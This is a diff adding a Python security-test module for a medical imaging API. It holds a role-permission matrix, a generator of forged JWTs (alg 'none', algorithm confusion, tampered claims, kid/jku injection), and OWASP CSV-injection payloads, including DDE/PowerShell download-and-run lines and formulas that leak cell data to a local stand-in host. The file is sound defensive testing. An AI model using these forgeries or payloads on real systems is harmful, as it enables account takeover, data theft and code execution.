@@ -1,0 +1,233 @@
+"""What the campaign expects: who may call what, forged tokens, CSV-injection payloads.
+
+Shared by the pytest checks (tests/security/) and the live run (bench/reliability/live.py), so
+both hold the product to the same table. Needs PyJWT only (the product's dependency); no
+Django at import time.
+"""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import hmac
+import json
+import secrets
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass
+
+import jwt
+
+ROLES = ("anonymous", "viewer", "analyst", "admin")
+RANK = {"anonymous": -1, "viewer": 0, "analyst": 1, "admin": 2}
+PUBLIC = "anonymous"
+
+# Every operation of the API and the least role that may call it (SPEC §3). An operation in
+# the live OpenAPI schema that is missing here fails the matrix: a new endpoint must be
+# classified before it ships.
+MINIMUM_ROLE: dict[tuple[str, str], str] = {
+    ("GET", "/api/v1/health"): PUBLIC,
+    ("POST", "/api/v1/auth/login"): PUBLIC,
+    ("POST", "/api/v1/auth/refresh"): PUBLIC,
+    ("POST", "/api/v1/auth/logout"): "viewer",
+    ("GET", "/api/v1/auth/me"): "viewer",
+    ("GET", "/api/v1/studies/search"): "viewer",
+    ("GET", "/api/v1/studies/filters/options"): "viewer",
+    ("GET", "/api/v1/studies/export"): "viewer",
+    ("GET", "/api/v1/studies/{exam_id}"): "viewer",
+    ("GET", "/api/v1/reports/search"): "viewer",
+    ("GET", "/api/v1/reports/filters/options"): "viewer",
+    ("GET", "/api/v1/reports/{report_id}"): "viewer",
+    ("POST", "/api/v1/import/studies"): "admin",
+    ("POST", "/api/v1/import/reports"): "admin",
+    ("GET", "/api/v1/import/batches"): "admin",
+    ("GET", "/api/v1/import/batches/{batch_id}"): "admin",
+    ("POST", "/api/v1/analysis/tasks"): "analyst",
+    ("GET", "/api/v1/analysis/tasks"): "viewer",
+    ("GET", "/api/v1/analysis/tasks/{task_id}"): "viewer",
+    ("DELETE", "/api/v1/analysis/tasks/{task_id}"): "analyst",
+    ("GET", "/api/v1/analysis/statistics"): "viewer",
+    ("GET", "/api/v1/analysis/options"): "viewer",
+}
+
+# Fields a client might slip into a body or query to raise its privileges; always ignored.
+ELEVATION_FIELDS = {"role": "admin", "is_staff": True, "is_superuser": True, "id": 1}
+
+
+def operations(schema: dict) -> list[tuple[str, str]]:
+    """(METHOD, path) of every operation in an OpenAPI document."""
+    methods = {"get", "post", "put", "patch", "delete"}
+    return sorted(
+        (method.upper(), path)
+        for path, item in schema.get("paths", {}).items()
+        for method in item
+        if method in methods
+    )
+
+
+def expected_status(minimum: str, role: str) -> str:
+    """'allow', '401' or '403' for a role calling an operation that needs ``minimum``."""
+    if minimum == PUBLIC or RANK[role] >= RANK[minimum]:
+        return "allow"
+    return "401" if role == "anonymous" else "403"
+
+
+@dataclass
+class Verdict:
+    """One cell of the matrix."""
+
+    method: str
+    path: str
+    role: str
+    expected: str
+    status: int
+
+    @property
+    def ok(self) -> bool:
+        if self.expected == "allow":
+            # Allowed means "not refused for who you are": a 404 of an unknown id is fine.
+            return self.status not in (401, 403) and self.status < 500
+        return str(self.status) == self.expected
+
+    @property
+    def unexpected_success(self) -> bool:
+        return self.expected != "allow" and 200 <= self.status < 300
+
+
+# ---------------------------------------------------------------------------- tokens
+
+
+def _b64(data: bytes) -> str:
+    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
+
+
+def _unb64(text: str) -> bytes:
+    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))
+
+
+def _assemble(header: dict, payload: dict, signature: bytes = b"") -> str:
+    head = _b64(json.dumps(header, separators=(",", ":")).encode())
+    body = _b64(json.dumps(payload, separators=(",", ":")).encode())
+    return f"{head}.{body}.{_b64(signature)}"
+
+
+def claims_of(token: str) -> dict:
+    """The payload of a JWT, unverified."""
+    return json.loads(_unb64(token.split(".")[1]))
+
+
+def forged_tokens(
+    *, access: str, refresh: str, jwt_key: str, secret_key: str, other_user_id: int
+) -> Iterator[tuple[str, str]]:
+    """(name, token) for every forgery the API must refuse with 401.
+
+    ``access``/``refresh`` are a real pair of a live login; ``jwt_key`` is the real signing
+    key (used only for the variants that model a stolen-but-invalid token: expired, wrong
+    algorithm, missing claims, unknown session).
+    """
+    claims = claims_of(access)
+    head, body, signature = access.split(".")
+    now = int(time.time())
+    for alg in ("none", "None", "NONE", "nOnE"):
+        yield f"alg {alg}, no signature", _assemble({"alg": alg, "typ": "JWT"}, claims)
+    yield (
+        "alg none, real signature kept",
+        _assemble({"alg": "none", "typ": "JWT"}, claims) + signature,
+    )
+    yield "signed with another key", jwt.encode(claims, secrets.token_urlsafe(32), "HS256")
+    yield "signed with SECRET_KEY", jwt.encode(claims, secret_key, "HS256")
+    yield (
+        "signed with an empty key",
+        _assemble(
+            {"alg": "HS256", "typ": "JWT"},
+            claims,
+            hmac.new(b"", f"{head}.{body}".encode(), hashlib.sha256).digest(),
+        ),
+    )
+    tampered = dict(claims, sub=str(other_user_id))
+    yield (
+        "payload tampered (sub), signature kept",
+        f"{head}.{_b64(json.dumps(tampered).encode())}.{signature}",
+    )
+    r_head, r_body, r_sig = refresh.split(".")
+    as_access = dict(claims_of(refresh), typ="access")
+    yield (
+        "refresh retyped as access, signature kept",
+        f"{r_head}.{_b64(json.dumps(as_access).encode())}.{r_sig}",
+    )
+    yield "signature truncated", f"{head}.{body}.{signature[:-4]}"
+    yield "signature removed", f"{head}.{body}."
+    yield "expired", jwt.encode(dict(claims, iat=now - 7200, exp=now - 3600), jwt_key, "HS256")
+    yield "refresh token used as access", refresh
+    yield "HS512 with the real key", jwt.encode(claims, jwt_key, "HS512")
+    yield "HS384 with the real key", jwt.encode(claims, jwt_key, "HS384")
+    yield (
+        "RS256 header, HMAC-signed with the key",
+        _assemble(
+            {"alg": "RS256", "typ": "JWT"},
+            claims,
+            hmac.new(jwt_key.encode(), f"{head}.{body}".encode(), hashlib.sha256).digest(),
+        ),
+    )
+    yield (
+        "RS256 header, random signature",
+        _assemble({"alg": "RS256", "typ": "JWT"}, claims, secrets.token_bytes(256)),
+    )
+    yield (
+        "ES256 header, random signature",
+        _assemble({"alg": "ES256", "typ": "JWT"}, claims, secrets.token_bytes(64)),
+    )
+    yield (
+        "kid / jku header injection",
+        _assemble(
+            {"alg": "HS256", "kid": "../../../../dev/null", "jku": "http://127.0.0.1:9/jwks.json"},
+            claims,
+            hmac.new(b"", f"{head}.{body}".encode(), hashlib.sha256).digest(),
+        ),
+    )
+    for missing in ("exp", "sid", "typ", "sub"):
+        partial = {k: v for k, v in claims.items() if k != missing}
+        yield f"real key, no {missing} claim", jwt.encode(partial, jwt_key, "HS256")
+    yield (
+        "real key, unknown session",
+        jwt.encode(dict(claims, sid=secrets.token_hex(16)), jwt_key, "HS256"),
+    )
+    yield (
+        "real key, another user's id",
+        jwt.encode(dict(claims, sub=str(other_user_id)), jwt_key, "HS256"),
+    )
+    yield "not a JWT", "not-a-token"
+    yield "empty-ish", "..."
+
+
+# ---------------------------------------------------------------------------- exports
+
+# OWASP's CSV-injection payloads, and the usual variations on them.
+CSV_INJECTION_PAYLOADS = [
+    '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Click here")',
+    "=cmd|' /C calc'!A0",
+    "=cmd|'/C powershell IEX(wget 127.0.0.1:9/s.ps1)'!A0",
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+    '=IMPORTXML(CONCAT("http://127.0.0.1:9/?v=", A1), "//a")',
+    '=WEBSERVICE("http://127.0.0.1:9/")',
+    "=1+1",
+    "+1+1",
+    "-2+3",
+    "@SUM(1,1)",
+    "+cmd|' /C calc'!A0",
+    "-cmd|' /C calc'!A0",
+    "@cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\r\n=1+1",
+    '"=1+1"',
+    '=""&"1"',
+    "'=1+1",
+    '=1+1",=2+2,"x',
+    '="a""b"',
+]
+# Characters a spreadsheet treats as the start of a formula (OWASP), plus line breaks.
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
+# C0 controls (no NUL: PostgreSQL text cannot hold it), DEL, separators and a BOM.
+CONTROL_TEXT = "".join(chr(c) for c in range(1, 32)) + "\x7f\u2028\u2029\ufeff结节"
